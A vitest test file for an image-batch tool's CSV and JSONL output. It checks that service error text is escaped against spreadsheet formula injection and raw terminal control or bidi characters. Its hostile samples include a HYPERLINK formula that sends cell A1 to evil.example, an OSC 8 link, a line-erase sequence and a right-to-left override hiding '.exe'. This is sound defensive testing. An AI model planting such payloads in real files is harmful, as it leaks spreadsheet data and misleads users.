import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BatchRow } from '../../src/batch';
import { exportKeys } from '../../src/cli/commands/ledger';
import type { LedgerKey, LedgerStore } from '../../src/ledger';
import { writeResults, type ResultRow } from '../../src/results';
import { csvCell } from '../../src/util/file-text';
import { rowRecord } from '../helpers/records';

/**
 * Issue 44 point 3: the service's words reached the files for people raw. `ledger export` wrote a formula cell as
 * it came (`=HYPERLINK(...)`), and results.csv, results.jsonl and errors.csv kept ESC, C1 and bidi override bytes,
 * which run or reorder text where the file is shown (`cat results.csv`).
 */

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'imagebatch-file-text-'));
});
afterAll(() => rm(dir, { recursive: true, force: true }));

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"top up")';
/** An OSC 8 link, a line erase in its 8-bit form, NEL (C1) and a right-to-left override. */
const HOSTILE = `${FORMULA} \x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\\u009b2K\u0085\u202egnp.exe`;
/** ESC, C1 and the bidi overrides and isolates: none may be in a file as a raw character. */
// eslint-disable-next-line no-control-regex
const RAW = /[\x1b\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

function failed(rowId: string, line: number, error: string, outcome: 'rejected' | 'accepted'): ResultRow {
  const row: BatchRow = { rowId, line, request: { prompt: `a cat ${rowId}`, model: 'flux-dev' } };
  const key = { attempt: 1, idempotencyKey: `ib.b.${rowId}.a1`, outcome, error };
  const state = outcome === 'rejected' ? 'failed' : 'unknown';
  const result = rowRecord({ batchId: 'b', rowId, line, state, keys: [key], error, resubmittable: state === 'failed' });
  return { row, state, result };
}

const readCsv = async (file: string) => parse<Record<string, string>>(await readFile(file, 'utf8'), { columns: true });

describe('the files for people hold no formula and no raw control or bidi character (issue 44 point 3)', () => {
  it('csvCell: formulas get an apostrophe, a number does not; C0 but tab and LF, DEL, C1, bidi become \\uXXXX', () => {
    expect(csvCell(FORMULA)).toBe(`'${FORMULA}`);
    expect([csvCell('-x'), csvCell('+1'), csvCell('@a'), csvCell('\tx')]).toEqual(["'-x", "'+1", "'@a", "'\tx"]);
    expect([csvCell('-0.0400'), csvCell('12'), csvCell('a cat')]).toEqual(['-0.0400', '12', 'a cat']);
    expect(csvCell('a\x1bb\u202ec\u0085d\te\nf\rg\x7f\u2069')).toBe(
      'a\\u001bb\\u202ec\\u0085d\te\nf\\u000dg\\u007f\\u2069',
    );
  });

  it('results.csv, results.jsonl, errors.csv and unresolved.csv: escaped, and the JSON reads back whole', async () => {
    const rows = [failed('bad', 2, HOSTILE, 'rejected'), failed('lost', 3, HOSTILE, 'accepted')];
    const written = await writeResults(path.join(dir, 'out'), 'b', rows, { open: false });
    for (const file of [written.resultsCsv, written.resultsJsonl, written.errorsCsv, written.unresolvedCsv]) {
      expect(await readFile(file, 'utf8'), path.basename(file)).not.toMatch(RAW);
    }
    const escaped = `'${FORMULA} \\u001b]8;;https://evil.example\\u001b\\here\\u001b]8;;\\u001b\\\\u009b2K\\u0085\\u202egnp.exe`;
    expect((await readCsv(written.resultsCsv)).map((r) => r.error)).toEqual([escaped, escaped]);
    expect((await readCsv(written.errorsCsv)).map((r) => [r.id, r.error])).toEqual([['bad', escaped]]);
    expect((await readCsv(written.unresolvedCsv)).map((r) => [r.id, r.error])).toEqual([['lost', escaped]]);
    const jsonl = (await readFile(written.resultsJsonl, 'utf8')).trim().split('\n');
    expect(jsonl.map((l) => (JSON.parse(l) as { error: string }).error)).toEqual([HOSTILE, HOSTILE]);
  });

  it('ledger export: the service words of an ended key are escaped like results.csv', async () => {
    const key: LedgerKey = {
      batchId: 'b',
      rowId: 'bad',
      idempotencyKey: 'ib.b.bad.a1',
      firstSentAtMs: 0,
      request: { prompt: 'a cat', model: 'flux-dev' },
      requestSha256: 'ab'.repeat(32),
      fingerprint: 'f1',
      costUsd: 0.04,
      ended: { outcome: 'rejected', error: HOSTILE },
    };
    const store = { keys: () => Promise.resolve({ keys: [key], next: 1, done: true }) } as unknown as LedgerStore;
    const file = path.join(dir, 'export', 'keys.csv');
    expect(await exportKeys(store, file)).toBe(1);
    const text = await readFile(file, 'utf8');
    expect(text).not.toMatch(RAW);
    const [row] = parse<Record<string, string>>(text, { columns: true });
    expect(row).toMatchObject({ row_id: 'bad', outcome: 'rejected', cost_usd: '0.0400' });
    expect(row!.error).toMatch(/^'=HYPERLINK\(/);
    expect(row!.error).toContain('\\u001b]8;;https://evil.example');
  });
});
